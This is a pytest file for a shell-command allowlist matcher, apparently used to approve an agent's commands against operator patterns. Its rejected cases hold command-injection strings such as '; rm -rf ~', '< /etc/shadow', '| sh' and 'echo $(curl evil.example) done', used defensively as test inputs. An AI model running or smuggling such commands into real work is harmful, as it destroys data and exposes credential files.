"""Which commands a pattern of the operator lets pass, and which it must not."""

import pytest

from tools.approval.allowlist import allows, allows_as_written

ALLOWED = [
    ("git push origin main", "git push origin main"),
    ("git push origin *", "git push origin feature/x-1"),
    ("  make deploy  ", "make deploy"),
    ("make test | tee log", "make test | tee log"),
    ("npm run *", "npm run build -- --watch=false"),
    ("docker compose * -d", "docker compose up --build -d"),
    ("cat log.?", "cat log.1"),
    ("rm build/*.o", "rm build/a.o"),
    ("ls *", "ls *"),
    ("a * b * c", "a 1 b 2 c"),
    ("a *x*x", "a axbx"),
    ("git commit -m *", "git commit -m 'it works'"),
    ("git\tadd *", "git\tadd x"),
    ("cat ?.?", "cat a.b"),
    ("cat (x) *", "cat (x) y"),
    ("a *.b?", "a x.b.bc"),
]
NOT_ALLOWED = [
    ("git push", "git push --force"),
    ("git push", "sudo git push"),
    ("make deploy", "make  deploy"),
    ("MAKE deploy", "make deploy"),
    ("*", "ls"),
    ("* status", "rm -rf x status"),
    ("g?t status", "git status"),
    ("", "ls"),
    ("", ""),
    ("npm run ?", "npm run ab"),
    ("npm run ?", "npm run "),
    ("cat log.?", "cat logs1"),
    ("a * b * c", "a 1 b 2 cc"),
    ("a * b * c", "a 1 b; b 2 c"),
    ("a * b * c", "xa 1 b 2 c"),
    ("a *b*", "a ;b"),
    ("a *bc", "a b"),
    ("npm run ?", "npm run ;"),
    ("cat [ab]", "cat a"),
    ("a *x*x", "a x"),
    *[
        ("git log *", f"git log {piece}")
        for piece in (
            *("; rm -rf ~", "| sh", "& rm x", "&& rm x", "|| rm x", "> ~/.bashrc", "< /etc/shadow", "$(rm x)"),
            "`rm x`",
            *("$HOME", "${x}", "x\nrm -rf ~", "x\rrm", "a\\\nb", "(rm)", "{rm,-rf}", "<(rm)", "!x", "x #y", "a\x00b"),
            "a\x1bb",
            *("2>&1", ">|x", "a;b", "\u2028rm", "\x0bx"),
        )
    ],
    ("git * log", "git ; rm -rf ~ ; git log"),
    ("echo * done", "echo $(curl evil.example) done"),
    ("make test | tee *", "make test | tee x; rm y"),
]


@pytest.mark.parametrize(("pattern", "command"), ALLOWED)
def test_what_a_pattern_describes_is_allowed(pattern: str, command: str) -> None:
    assert allows([pattern], command)
    assert allows(["nothing", pattern], command)


@pytest.mark.parametrize(("pattern", "command"), NOT_ALLOWED)
def test_nothing_else_is(pattern: str, command: str) -> None:
    assert not allows([pattern], command)


def test_only_a_pattern_without_wildcards_is_the_command_itself() -> None:
    assert allows_as_written(["git push *", "git push origin"], "git push origin")
    assert not allows_as_written(["git push *"], "git push origin")


def test_a_pattern_made_to_be_slow_is_not() -> None:
    assert not allows(["a " + "*a" * 200 + "b"], "a " + "a" * 19_000)
    assert not allows(["a " + "*a?" * 200 + "*b"], "a " + "a" * 19_000)
